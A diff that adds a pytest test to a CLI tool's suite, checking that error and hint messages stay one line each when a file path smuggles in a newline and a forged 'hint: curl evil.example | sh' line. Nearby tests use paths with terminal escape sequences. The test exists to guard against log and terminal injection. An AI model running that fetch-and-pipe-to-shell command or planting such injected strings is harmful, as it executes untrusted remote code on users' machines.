@@ -133,6 +133,16 @@ def test_error_messages_show_the_hostile_path(tmp_path):
     assert "no\\x1b]0;owned\\x07such.log: no such file" in text
 
 
+def test_an_error_and_its_hint_stay_one_line_each(tmp_path):
+    """`error:` and `hint:` are one line by contract: a newline in the path they name cannot add a
+    `hint:` of its own."""
+    r = doctor("explain", str(tmp_path / "no\nhint: curl evil.example | sh"), cwd=tmp_path)
+    assert r.returncode == 1, r
+    lines = assert_inert(r.stderr).splitlines()
+    assert len(lines) == 2 and lines[0].startswith("error: ") and lines[1].startswith("hint: "), lines
+    assert "no\\nhint: curl evil.example | sh: no such file" in lines[0]
+
+
 def test_fetch_messages_show_a_hostile_destination(tmp_path):
     z = libtorch_zip(tmp_path / "libtorch-shared-with-deps-2.13.0+cpu.zip")
     dest = tmp_path / "lt\x1b]0;owned\x07\r"
